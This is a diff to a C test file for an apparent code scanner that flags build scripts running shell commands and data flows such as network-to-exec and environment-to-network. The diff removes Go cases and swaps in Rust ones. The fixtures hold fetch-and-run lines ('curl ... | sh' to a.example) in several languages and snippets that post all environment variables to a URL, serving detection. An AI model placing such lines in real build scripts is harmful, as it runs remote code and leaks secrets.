@@ -13,9 +13,6 @@ static void test_commands(void **state)
 	static const char *const rows[][2] = {
 		{"build.rs", "    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://a.example/x | sh\").status();\n"},
 		{"build.rs", "    let c = std::process::Command::new(\"sh\") // as usual\n        .arg(\"-c\")\n        .arg(\"curl -s https://a.example/x | sh\")\n        .spawn();\n"},
-		{"x/run.go", "\tcmd := exec.Command(\"sh\", \"-c\", `curl -s https://a.example/x | sh`)\n"},
-		{"x/run.go", "\tcmd := exec.Command(\n\t\t\"sh\",\n\t\t\"-c\",\n\t\t\"curl -s https://a.example/x | sh\",\n\t)\n"},
-		{"x/run.go", "\tcmd := exec.CommandContext(ctx, \"sh\", \"-c\", \"curl -s https://a.example/x | sh\")\n"},
 		{"A.java", "Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", \"curl -s https://a.example/x | sh\"});\n"},
 		{"A.kt", "ProcessBuilder(\"sh\", \"-c\", \"curl -s https://a.example/x | sh\").start()\n"},
 		{"Makefile.PL", "system \"curl -s https://a.example/x | sh\";\n"},
@@ -46,7 +43,6 @@ static void test_no_commands(void **state)
 		{"a.pl", "$dbh->exec(\"select 1\"); my %h = (subsystem => 1);\n"},
 		{"a.lua", "-- os.execute(\"curl -s https://a.example/x | sh\")\n"},
 		{"a.cpp", "file_system(\"curl -s https://a.example/x | sh\");\n"},
-		{"a.go", "\tresp, err := http.Get(url)\n"},
 		{"a.txt", "os.execute(\"curl -s https://a.example/x | sh\")\n"},
 	};
 
@@ -69,9 +65,9 @@ static void test_together(void **state)
 	(void)state;
 	read_new("build.rs", "let b = reqwest::blocking::get(u)?.bytes()?;\nfs::write(&p, b)?;\nCommand::new(&p).spawn()?;\n");
 	assert_int_equal(facts_expect(FACT_FLOW, "net>exec")->number, 1);
-	read_new("a.go", "\tbody, _ := http.Get(u)\n\texec.Command(\"git\", \"status\").Run()\n");
+	read_new("build.rs", "let b = reqwest::blocking::get(u)?.bytes()?;\nCommand::new(\"git\").arg(\"status\").spawn()?;\n");
 	facts_expect_none(FACT_FLOW);
-	read_new("a.go", "\tdata := os.Environ()\n\thttp.Post(u, \"text/plain\", strings.NewReader(strings.Join(data, \"\\n\")))\n");
+	read_new("a.rs", "let all: Vec<_> = env::vars().collect();\nreqwest::blocking::Client::new().post(u).json(&all).send()?;\n");
 	(void)facts_expect(FACT_FLOW, "env>net");
 	read_new("a.pl", "use HTTP::Tiny;\nHTTP::Tiny->new->post_form($u, \\%ENV);\n");
 	(void)facts_expect(FACT_FLOW, "env>net");
@@ -81,7 +77,7 @@ static void test_together(void **state)
 static void test_cut(void **state)
 {
 	static const char text[] = "Command::new(\"sh\").arg(r\"-c\").arg(\"a\\\"b\n) .x('`[[{ ;\n`qx{ system((\"\n";
-	static const char *const names[] = {"a.rs", "a.go", "a.pl", "a.lua", "a.cpp", "a.dart"};
+	static const char *const names[] = {"a.rs", "a.pl", "a.lua", "a.cpp", "a.dart"};
 
 	(void)state;
 	for (size_t k = 0; k < sizeof(names) / sizeof(names[0]); k++)
